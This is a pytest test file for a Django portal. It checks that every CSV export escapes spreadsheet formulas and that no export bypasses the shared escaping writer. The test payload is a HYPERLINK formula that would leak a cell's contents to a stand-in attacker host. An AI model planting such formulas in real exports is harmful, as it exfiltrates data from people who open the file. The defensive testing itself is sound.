"""Every CSV the portal offers escapes a cell that a spreadsheet would run as a formula.

The walk feeds each export a text field starting with "=" and reads the file
back. The guards below find the exports by themselves (URLs ending in .csv,
admin actions that export CSV, and every call of the one CSV writer), so a new
export that the walk does not cover fails here until a case is added.
"""

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.contrib import admin
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone

from network_portal.csv_export import FORMULA_STARTS
from tests.factories import CouncilFactory, MemberFactory, UserFactory
from tests.meetings.factories import MeetingFactory, RegistrationFactory
from tests.training.factories import (
    BookingFactory,
    FeedbackFactory,
    SessionFactory,
    past_session,
    researcher_group,
    researcher_on_project,
)
from training.models import Booking, Commitment

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
APP_PACKAGES = ["network_portal", "members", "meetings", "training", "resources"]
WRITER_MODULE = "network_portal/csv_export.py"
WRITER_FUNCTIONS = {"csv_response", "write_csv", "csv_text"}

PAYLOAD = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


# --- The walk -----------------------------------------------------------------


def _staff(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def _researcher(client):
    user = UserFactory()
    user.groups.add(researcher_group())
    client.force_login(user)
    return client


def _consenting_attendees(council, **feedback):
    # Five: fewer consenting people in a council are suppressed from research files.
    for _ in range(5):
        member = MemberFactory(council=council, consent_research=True)
        booking = BookingFactory(session=past_session(), member=member, attended=Booking.Attended.YES)
        FeedbackFactory(booking=booking, **feedback)


def _admin_action(client, changelist: str, action: str, selected: int):
    return client.post(reverse(changelist), {"action": action, "_selected_action": [selected]})


def members_export(client):
    MemberFactory(user__first_name=PAYLOAD)
    return _staff(client).get(reverse("admin:members_member_export"))


def meeting_register(client):
    meeting = MeetingFactory()
    RegistrationFactory(meeting=meeting, user__first_name=PAYLOAD)
    return _admin_action(_staff(client), "admin:meetings_meeting_changelist", "export_register", meeting.pk)


def selected_registrations(client):
    registration = RegistrationFactory(user__first_name=PAYLOAD)
    return _admin_action(_staff(client), "admin:meetings_registration_changelist", "export_register", registration.pk)


def training_register(client):
    session = SessionFactory()
    BookingFactory(session=session, member=MemberFactory(user__first_name=PAYLOAD))
    return _admin_action(_staff(client), "admin:training_session_changelist", "export_register", session.pk)


def coverage(client):
    # Public figures: the council's name is the only text in this file.
    SessionFactory(council=CouncilFactory(name=PAYLOAD))
    return client.get(reverse("training:coverage-csv"))


def _research_package(client, name: str) -> HttpResponse:
    # The package is a zip; its CSVs are written by the same writer. Hand one back as a CSV response.
    user, project = researcher_on_project()
    client.force_login(user)
    package = client.get(reverse("training:research-package", args=[project.pk]))
    assert package.status_code == 200
    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        return HttpResponse(archive.read(name), content_type="text/csv; charset=utf-8")


def research_participants(client):
    _consenting_attendees(CouncilFactory(), will_do_differently=PAYLOAD, research_consent=True)
    return _research_package(client, "participants.csv")


def research_breakdown(client):
    # Counts per council and role: the council's name is the only text in this file.
    _consenting_attendees(CouncilFactory(name=PAYLOAD))
    return _research_package(client, "breakdown.csv")


def _verified_motion_with_payload() -> Commitment:
    return Commitment.objects.create(
        council=CouncilFactory(), kind="motion", summary=PAYLOAD, happened_on=timezone.localdate(),
        evidence_url="https://example.org/motion", status="verified", verified_at=timezone.now(),
    )  # fmt: skip


def research_commitments(client):
    _verified_motion_with_payload()
    return _research_package(client, "council_commitments.csv")


def outcome_council_changes(client):
    _verified_motion_with_payload()
    return _staff(client).get(reverse("training:outcomes-csv", args=["council-changes"]))


WALK = [
    members_export,
    meeting_register,
    selected_registrations,
    training_register,
    coverage,
    research_participants,
    research_breakdown,
    research_commitments,
    outcome_council_changes,
]

# What the walk reaches, for the guards below.
COVERED_URLS = {
    "admin:members_member_export",
    "training:coverage-csv",
    "training:outcomes-csv",
}
COVERED_ADMIN_ACTIONS = {
    ("meetings.meeting", "export_register"),
    ("meetings.registration", "export_register"),
    ("training.session", "export_register"),
}
COVERED_WRITER_CALLS = {
    "members/admin.py:MemberAdmin.export_csv",
    "meetings/admin.py:register_csv",
    "training/admin.py:SessionAdmin.export_register",
    "training/views.py:coverage_csv",
    "training/views.py:outcomes_csv",
    "training/research_package.py:_csv",
}


@pytest.mark.parametrize("export", WALK, ids=lambda export: export.__name__)
def test_every_csv_export_escapes_a_formula_in_a_text_field(client, london_councils, export):
    response = export(client)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert any(cell.startswith("'" + PAYLOAD) for cell in cells), "the planted field is missing from the file"
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


# --- The guards ---------------------------------------------------------------


def _csv_urls(patterns=None, namespace="") -> set[str]:
    found = set()
    for entry in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            found |= _csv_urls(entry.url_patterns, inner)
        elif str(entry.pattern).rstrip("$").endswith(".csv"):
            found.add(f"{namespace}{entry.name}")
    return found


def _csv_admin_actions() -> set[tuple[str, str]]:
    request = RequestFactory().get("/")
    request.user = UserFactory(is_staff=True, is_superuser=True)
    found = set()
    for model, model_admin in admin.site._registry.items():
        for name, (_, _, description) in model_admin.get_actions(request).items():
            if "csv" in f"{name} {description}".lower():
                found.add((model._meta.label_lower, name))
    return found


def _project_modules():
    for package in APP_PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path.relative_to(ROOT).as_posix(), ast.parse(path.read_text(), filename=str(path))


def _writer_calls(tree: ast.Module, module: str) -> set[str]:
    """module:Function (or Class.method) for every function that calls the CSV writer."""
    found = set()

    def visit(node, scope):
        for child in ast.iter_child_nodes(node):
            inner = [*scope, child.name] if isinstance(child, ast.FunctionDef | ast.ClassDef) else scope
            if isinstance(child, ast.Call):
                called = child.func.attr if isinstance(child.func, ast.Attribute) else getattr(child.func, "id", "")
                if called in WRITER_FUNCTIONS:
                    found.add(f"{module}:{'.'.join(scope)}")
            visit(child, inner)

    visit(tree, [])
    return found


def test_every_csv_url_is_walked():
    assert _csv_urls() == COVERED_URLS


def test_every_csv_admin_action_is_walked():
    assert _csv_admin_actions() == COVERED_ADMIN_ACTIONS


def test_every_use_of_the_csv_writer_is_walked():
    calls = set()
    for module, tree in _project_modules():
        if module != WRITER_MODULE:
            calls |= _writer_calls(tree, module)
    assert calls == COVERED_WRITER_CALLS


def test_no_csv_is_written_except_through_the_one_writer():
    # Another csv.writer or hand-made text/csv response would bypass the escaping.
    offenders = []
    for module, tree in _project_modules():
        if module == WRITER_MODULE:
            continue
        for node in ast.walk(tree):
            imports_csv = isinstance(node, ast.Import) and any(alias.name == "csv" for alias in node.names)
            imports_csv |= isinstance(node, ast.ImportFrom) and node.module == "csv"
            mentions_csv_type = isinstance(node, ast.Constant) and "text/csv" in str(node.value)
            if imports_csv or mentions_csv_type:
                offenders.append(f"{module}:{node.lineno}")
    assert offenders == []
